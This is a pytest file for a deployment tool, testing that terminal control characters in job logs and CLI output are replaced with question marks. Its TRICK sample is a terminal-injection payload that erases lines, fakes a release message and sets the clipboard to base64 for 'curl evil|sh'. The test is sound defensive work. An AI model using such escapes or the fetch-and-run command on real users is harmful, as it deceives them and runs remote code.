"""Build and pod output reach a terminal without control characters: no line can be
rewritten or hidden, no clipboard set."""

from __future__ import annotations

import os
import pty
import select
import subprocess
import sys

import pytest

from homeport.records import joblog
from homeport.terminal import printable, printable_bytes
from tests.support.records import seed_app
from tests.support.servers import Homeport

# Erase the line, move up, erase again, then claim a release went live; then OSC 52, which
# asks the terminal to put "curl evil|sh" on the clipboard.
TRICK = "\x1b[2K\x1b[1A\x1b[2K-----> blog v7 is live\n\x1b]52;c;Y3VybCBldmlsfHNo\x07"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain\ttabbed line\n", "plain\ttabbed line\n"),
        ("windows line\r\n", "windows line\n"),
        ("over\rwrite", "over?write"),
        ("\x1b[31mred\x1b[0m", "?[31mred?[0m"),
        ("bell\x07 del\x7f c1\x9b", "bell? del? c1?"),
        ("né ✓ 漢字", "né ✓ 漢字"),
    ],
)
def test_control_characters_become_question_marks(text: str, shown: str) -> None:
    """C0 controls but tab and newline, DEL and C1 controls are replaced; text is kept."""
    assert printable(text) == shown
    assert printable_bytes(text.encode()) == shown.encode()


def test_a_job_log_stores_no_control_characters(tmp_path: object) -> None:
    """What a build prints is stored, and so served to git and the API, without escapes."""
    from pathlib import Path

    log = joblog.JobLog(Path(str(tmp_path)) / "job.log")
    for line in TRICK.split("\n"):
        log.write(line)
    stored = log.path.read_text()
    assert "\x1b" not in stored and "\x07" not in stored
    assert stored == "?[2K?[1A?[2K-----> blog v7 is live\n?]52;c;Y3VybCBldmlsfHNo?\n"


def _cli(receiver: Homeport, *args: str, terminal: bool) -> bytes:
    """Run the CLI with stdout on a terminal (a pty) or a pipe; what it wrote."""
    env = {**receiver.env(), "HOMEPORT_URL": receiver.url}
    argv = [sys.executable, "-m", "homeport", *args]
    if not terminal:
        return subprocess.run(argv, env=env, capture_output=True, timeout=60, check=True).stdout
    main, side = pty.openpty()
    proc = subprocess.Popen(argv, env=env, stdout=side, stderr=subprocess.DEVNULL)
    os.close(side)
    seen = b""
    try:
        while True:
            if select.select([main], [], [], 30)[0]:
                try:
                    chunk = os.read(main, 4096)
                except OSError:  # the terminal closes with the process
                    break
                if not chunk:
                    break
                seen += chunk
            elif proc.poll() is not None:
                break
    finally:
        os.close(main)
        assert proc.wait(timeout=30) == 0
    return seen


def test_the_cli_shows_no_control_characters_on_a_terminal(receiver: Homeport) -> None:
    """A log written before homeport cleaned its lines (or a pod's) shows `?` on a terminal;
    piped to a file it stays as sent."""
    (release,) = seed_app(receiver.data_dir, "blog", 1)
    assert release.job_id is not None
    path = joblog.log_path(receiver.data_dir, "blog", release.job_id)
    path.write_bytes(TRICK.encode() + b"\n")
    shown = _cli(receiver, "jobs", "blog", release.job_id, terminal=True)
    assert b"\x1b" not in shown and b"\x07" not in shown
    assert b"?[2K?[1A?[2K-----> blog v7 is live" in shown
    piped = _cli(receiver, "jobs", "blog", release.job_id, terminal=False)
    assert piped == TRICK.encode() + b"\n"
